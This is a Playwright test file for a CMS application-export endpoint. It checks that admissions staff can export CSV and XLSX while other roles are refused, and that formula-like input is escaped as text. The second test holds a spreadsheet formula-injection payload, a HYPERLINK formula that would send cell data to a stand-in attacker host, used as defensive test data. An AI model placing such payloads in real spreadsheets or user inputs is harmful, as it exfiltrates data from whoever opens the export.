import { expect, test } from '@playwright/test'
import ExcelJS from 'exceljs'
import { DEMO_STAFF } from '../../../apps/cms/src/seed/accounts'
import { CMS_URL, idCard, signUpAs, staffLogin } from '../../lib/api'

/** Admissions exports applications as .xlsx and .csv, filtered; other roles cannot. */
test('admissions exports applications as .xlsx and .csv; an editor cannot', async ({ request }) => {
  const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
  const editor = DEMO_STAFF.find((s) => s.roles.includes('editor'))!
  const added = await signUpAs(request, 'elderly', {
    name: '导出测试',
    gender: 'female',
    id_card: idCard(Date.now() % 991, '19580303'),
    mobile: '13600006666',
    education: 'other',
  })
  const token = await staffLogin(request, admissions.email, admissions.password)
  const auth = { authorization: `JWT ${token}` }

  const csv = await request.get(`${CMS_URL}/staff-api/export/applications?format=csv&category_type=elderly`, {
    headers: auth,
  })
  expect(csv.status()).toBe(200)
  expect(csv.headers()['content-disposition']).toMatch(/\.csv$/)
  const text = (await csv.text()).replace(/^\uFEFF/, '')
  expect(text.split(/\r?\n/)[0]).toContain('报名编号,招生季,招生类别,姓名')
  expect(text).toContain(added.application_no)
  expect(text).not.toMatch(/,开放教育,|,成人学历教育,/)

  const xlsx = await request.get(`${CMS_URL}/staff-api/export/applications?format=xlsx&status=submitted`, {
    headers: auth,
  })
  expect(xlsx.status()).toBe(200)
  const book = new ExcelJS.Workbook()
  await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer)
  const numbers: string[] = []
  book.worksheets[0]!.eachRow((row, n) => n > 1 && numbers.push(String(row.getCell(1).value)))
  expect(numbers).toContain(added.application_no)

  const editorToken = await staffLogin(request, editor.email, editor.password)
  const denied = await request.get(`${CMS_URL}/staff-api/export/applications?format=csv`, {
    headers: { authorization: `JWT ${editorToken}` },
  })
  expect(denied.status()).toBe(403)
  expect(await denied.text()).not.toContain(added.application_no)
  expect((await request.get(`${CMS_URL}/staff-api/export/applications?format=csv`)).status()).toBe(401)
})

test('free text that looks like a formula stays text in both formats', async ({ request }) => {
  const admissions = DEMO_STAFF.find((s) => s.roles.includes('admissions'))!
  const formula = '=HYPERLINK("http://attacker.example/?x="&A2,"点击查看")'
  const added = await signUpAs(request, 'elderly', {
    name: '公式测试',
    gender: 'male',
    id_card: idCard((Date.now() + 7) % 991, '19560404'),
    mobile: '13600007777',
    education: 'other',
    address: formula,
    remark: '@SUM(1+1)',
  })
  const token = await staffLogin(request, admissions.email, admissions.password)
  const auth = { authorization: `JWT ${token}` }
  const csv = await request.get(`${CMS_URL}/staff-api/export/applications?format=csv&category_type=elderly`, {
    headers: auth,
  })
  const line = (await csv.text()).split(/\r\n/).find((l) => l.startsWith(added.application_no))!
  expect(line).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A2,""点击查看"")"`)
  expect(line).toContain(",'@SUM(1+1),")
  expect(line).not.toMatch(/(^|,)"?[=@]/)

  const xlsx = await request.get(
    `${CMS_URL}/staff-api/export/applications?format=xlsx&category_type=elderly`,
    {
      headers: auth,
    },
  )
  const book = new ExcelJS.Workbook()
  await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer)
  let cells: unknown[] = []
  book.worksheets[0]!.eachRow((row) => {
    if (String(row.getCell(1).value) === added.application_no) cells = (row.values as unknown[]).slice(1)
  })
  expect(cells).toContain(`'${formula}`)
  expect(cells).toContain("'@SUM(1+1)")
  for (const c of cells) expect(typeof c === 'object' && c !== null && 'formula' in c).toBe(false)
})
